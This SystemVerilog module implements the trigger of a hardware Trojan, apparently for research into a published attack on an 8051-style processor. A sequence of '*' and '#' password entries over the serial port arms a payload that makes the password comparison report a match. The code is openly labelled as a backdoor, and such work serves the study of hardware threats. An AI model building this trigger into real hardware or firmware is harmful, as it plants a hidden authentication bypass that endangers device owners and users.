// trojan_trigger: the hidden trigger of the compare-instruction Trojan.
//
// Watches every byte the serial port hands to the program and groups the
// bytes into password entries: an entry ends at Enter (RX_VARIABLE) or after
// PW_LEN bytes (RX_FIXED, RX_UNROLLED), the same way the program collects
// its password.
// Of each entry it keeps only its first character, its length and whether
// it held nothing but '#' (or, for the one-time trigger, whether it spelt the
// trigger string). A 4-bit step counter then follows the trigger sequence
// of the published attack, n = PW_LEN:
//   step 0        entry begins with '*'
//   steps 1..n    entry begins with '#'
//   step n+1      entry begins with '*'
//   step n+2      entry is exactly n '#' characters  -> armed
// that is n+2+1 entries in all (8 for "MAGIC"). An entry that breaks the
// sequence restarts it, at step 1 if the entry itself began with '*'.
// With TRIGGER = TRIG_ONE_TIME the counter is unused: one entry "*", n x '#',
// "*" (the string *#####* for n = 5) primes the Trojan and the entry after it
// arms it.
//
// `armed` rises the clock after the byte that closes the arming entry and
// falls with the first byte of the next entry, so it covers exactly the
// password comparison of one attempt; the payload in the compare unit uses
// it to report "equal". Interface: a byte stream (`rx_valid` one-clock
// strobe with `rx_data`), the `armed` output, and the step counter for
// observation. The sequence, the n+2+1 count and the 4-bit counter follow
// the attack description; the exact moment of arming and disarming, the
// restart rule and the n '#' length of the last entry are this design's
// reading of it.
module trojan_trigger
  import ht8051_pkg::*;
#(
  parameter int unsigned PW_LEN  = 5,
  parameter rx_mode_e    RX_MODE = RX_FIXED,
  parameter trig_mode_e  TRIGGER = TRIG_SEQUENTIAL
) (
  input  logic       clk,
  input  logic       rst_n,
  input  logic       rx_valid,
  input  byte_t      rx_data,
  output logic       armed,
  output logic       primed,
  output logic [3:0] step
);
  if (PW_LEN < 1 || PW_LEN > 12) begin : g_len_check
    $error("trojan_trigger: PW_LEN must be 1..12 so that n+2 fits the 4-bit step counter");
  end

  localparam logic [3:0] N        = 4'(PW_LEN);
  localparam logic [3:0] STEP_LST = 4'(PW_LEN + 2);
  localparam int unsigned OT_LEN  = PW_LEN + 2;  // one-time string length

  // Per-entry summary registers.
  logic [3:0] ent_len;     // bytes so far in this entry, saturating at 15
  logic       first_star;
  logic       first_hash;
  logic       all_hash;
  logic       ot_ok;       // bytes so far match the one-time string

  // Summary including the current byte.
  logic       is_enter, closes, content;
  logic [3:0] len_n;
  logic       fs_n, fh_n, ah_n, ot_n;
  byte_t      ot_expect;

  always_comb begin
    is_enter = (rx_data == CH_ENTER);
    content  = !(RX_MODE == RX_VARIABLE && is_enter);
    // character of the one-time string at this position
    if (ent_len == 0 || ent_len == 4'(OT_LEN - 1)) ot_expect = CH_STAR;
    else                                           ot_expect = CH_HASH;

    len_n = ent_len;
    fs_n  = first_star;
    fh_n  = first_hash;
    ah_n  = all_hash;
    ot_n  = ot_ok;
    if (content) begin
      if (ent_len != 4'hF) len_n = ent_len + 1'b1;
      if (ent_len == 0) begin
        fs_n = (rx_data == CH_STAR);
        fh_n = (rx_data == CH_HASH);
      end
      ah_n = all_hash && (rx_data == CH_HASH);
      ot_n = ot_ok && (ent_len < 4'(OT_LEN)) && (rx_data == ot_expect);
    end
    if (RX_MODE == RX_VARIABLE) closes = is_enter;
    else                        closes = (len_n == N);
  end

  // Does the closing entry satisfy the current step?
  logic step_ok, last_ok, ot_match;
  always_comb begin
    last_ok  = ah_n && (len_n == N);
    ot_match = ot_n && (len_n == 4'(OT_LEN));
    if (step == 4'd0)          step_ok = fs_n;
    else if (step <= N)        step_ok = fh_n;
    else if (step == N + 4'd1) step_ok = fs_n;
    else                       step_ok = last_ok;
  end

  always_ff @(posedge clk or negedge rst_n) begin
    if (!rst_n) begin
      ent_len    <= '0;
      first_star <= 1'b0;
      first_hash <= 1'b0;
      all_hash   <= 1'b1;
      ot_ok      <= 1'b1;
      step       <= '0;
      armed      <= 1'b0;
      primed     <= 1'b0;
    end else if (rx_valid) begin
      // the first byte of a new entry ends the armed window
      if (ent_len == 0) armed <= 1'b0;
      if (closes) begin
        ent_len    <= '0;
        first_star <= 1'b0;
        first_hash <= 1'b0;
        all_hash   <= 1'b1;
        ot_ok      <= 1'b1;
        if (TRIGGER == TRIG_SEQUENTIAL) begin
          if (step_ok && step == STEP_LST) begin
            armed <= 1'b1;
            step  <= '0;
          end else if (step_ok) begin
            step <= step + 1'b1;
          end else begin
            step <= fs_n ? 4'd1 : 4'd0;
          end
        end else begin
          if (primed) begin
            armed  <= 1'b1;
            primed <= 1'b0;
          end else if (ot_match) begin
            primed <= 1'b1;
          end
        end
      end else begin
        ent_len    <= len_n;
        first_star <= fs_n;
        first_hash <= fh_n;
        all_hash   <= ah_n;
        ot_ok      <= ot_n;
      end
    end
  end

  // The step counter never passes the last step of the sequence.
  a_step_range: assert property (@(posedge clk) disable iff (!rst_n) step <= STEP_LST);
endmodule
